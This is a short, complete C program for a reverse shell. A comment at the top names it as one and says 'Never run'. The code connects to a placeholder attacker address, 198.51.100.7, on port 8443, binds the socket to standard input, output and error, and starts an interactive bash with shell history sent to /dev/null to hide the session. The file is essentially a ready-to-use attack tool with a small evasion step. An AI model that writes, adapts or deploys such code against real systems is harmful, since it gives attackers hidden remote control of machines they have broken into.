/* A reverse shell that starts its shell with history turned off. Never run. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(8443)};
	inet_pton(AF_INET, "198.51.100.7", &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
		return 1;
	dup2(s, 0); dup2(s, 1); dup2(s, 2);
	char *env[] = {"HISTFILE=/dev/null", "PATH=/usr/sbin:/usr/bin:/sbin:/bin", "TERM=xterm", 0};
	char *argv[] = {"/bin/bash", "--noprofile", "-i", 0};
	execve(argv[0], argv, env);
	return 0;
}
